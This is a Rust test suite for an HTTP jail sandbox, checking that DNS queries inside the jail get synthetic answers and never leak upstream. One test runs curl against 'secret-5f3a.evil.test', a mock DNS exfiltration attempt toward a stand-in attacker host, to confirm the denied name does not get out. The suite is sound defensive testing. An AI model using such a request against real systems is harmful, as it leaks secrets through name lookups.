//! Names are answered within the jail; nothing is asked upstream before a request was allowed.

use httpjail_tests::Lab;

fn synthetic_v4(address: &str) -> bool {
    address.starts_with("198.18.") || address.starts_with("198.19.")
}

#[test]
fn answers_every_name_without_asking_anyone() {
    let lab = Lab::new();
    let a = lab.origin("a.test");
    let script = "getent ahostsv4 a.test | head -1 | cut -d' ' -f1
        getent ahostsv6 a.test | head -1 | cut -d' ' -f1
        getent ahostsv4 nowhere.test | head -1 | cut -d' ' -f1";
    let outside = lab.outside().sh(script).exits(0).stdout;
    assert_eq!(outside, format!("{}\n{}\n", a.v4(), a.v6()), "without a jail: the real ones");
    let asked = lab.names_asked().len();
    assert!(asked > 0);
    let jailed = lab.jail().js("true").sh(script).exits(0).stdout;
    let lines: Vec<_> = jailed.lines().collect();
    assert_eq!(lines.len(), 3, "{jailed}");
    assert!(synthetic_v4(lines[0]) && synthetic_v4(lines[2]), "{jailed}");
    assert!(lines[1].starts_with("fd"), "a unique local address: {jailed}");
    assert_ne!(lines[0], lines[2], "one address for each name");
    assert_eq!(
        lab.names_asked().len(),
        asked,
        "the name server was asked: {:?}",
        lab.names_asked()
    );
    lab.assert_clean();
}

#[test]
fn keeps_a_names_address_for_the_run() {
    let lab = Lab::new();
    let script =
        "dig +short A a.test; dig +short A b.test; dig +short A A.TEST; dig +tcp +short A a.test";
    let jailed = lab.jail().sh(script).exits(0).stdout;
    let lines: Vec<_> = jailed.lines().collect();
    assert_eq!(lines.len(), 4, "{jailed}");
    assert_eq!((lines[0], lines[0]), (lines[2], lines[3]), "{jailed}");
    assert_ne!(lines[0], lines[1], "{jailed}");
    lab.assert_clean();
}

#[test]
fn answers_other_types_with_nothing() {
    let lab = Lab::new();
    for kind in ["TXT", "MX", "SRV", "NS", "HTTPS", "SVCB", "ANY", "NULL", "CAA", "PTR"] {
        let jailed = lab.jail().run(["dig", kind, "a.test"]).exits(0).stdout;
        assert!(jailed.contains("status: NOERROR"), "{kind}: {jailed}");
        assert!(jailed.contains("ANSWER: 0"), "{kind}: {jailed}");
    }
    assert_eq!(lab.names_asked(), Vec::<String>::new());
    lab.assert_clean();
}

#[test]
fn answers_by_udp_and_tcp_and_with_any_payload_size() {
    let lab = Lab::new();
    lab.origin("a.test");
    for options in [&["+tcp"][..], &["+noedns"], &["+bufsize=512"], &["+bufsize=4096"], &["-6"]] {
        let server = if options == ["-6"] { "@2a0f:9400:7777::2" } else { "@45.67.89.53" };
        let dig = [&["dig", server, "+short", "A", "a.test"], options].concat();
        let jailed = lab.jail().run(dig).exits(0);
        assert!(synthetic_v4(&jailed.stdout), "{options:?}: {jailed:?}");
    }
    assert_eq!(lab.names_asked(), Vec::<String>::new());
    assert_eq!(lab.frames().len(), 0, "a question got out");
    lab.assert_clean();
}

#[test]
fn answers_whatever_server_is_asked() {
    let lab = Lab::new();
    lab.origin("a.test");
    let outside = lab.outside().run(["dig", "@45.67.89.53", "+short", "a.test"]).exits(0);
    assert!(outside.stdout.starts_with("45.67.89."), "{outside:?}");
    let asked = lab.names_asked().len();
    for server in ["@45.67.89.53", "@45.67.89.2", "@127.0.0.53", "@8.8.8.8"] {
        let jailed = lab.jail().run(["dig", server, "+short", "a.test"]).exits(0);
        assert!(synthetic_v4(&jailed.stdout), "{server}: {jailed:?}");
    }
    assert_eq!(lab.names_asked().len(), asked);
    lab.assert_clean();
}

#[test]
fn asks_upstream_for_allowed_names_alone() {
    let lab = Lab::new();
    lab.origin("a.test");
    let script = "curl -sS -o /dev/null http://secret-5f3a.evil.test/
        curl -sS -o /dev/null -w '%{http_code}' http://a.test/";
    let jailed = lab.jail().js("r.host === 'a.test'").sh(script).exits(0);
    assert_eq!(jailed.stdout, "200", "{jailed:?}");
    let asked = lab.names_asked();
    assert!(!asked.is_empty() && asked.iter().all(|name| name == "a.test"), "{asked:?}");
    assert!(!lab.saw("secret-5f3a"), "the denied name got out");
    lab.assert_clean();
}

#[test]
fn knows_localhost() {
    let lab = Lab::new();
    let jailed = lab.jail().sh("dig +short A localhost; dig +short AAAA localhost").exits(0);
    assert_eq!(jailed.stdout, "127.0.0.1\n::1\n");
    lab.assert_clean();
}
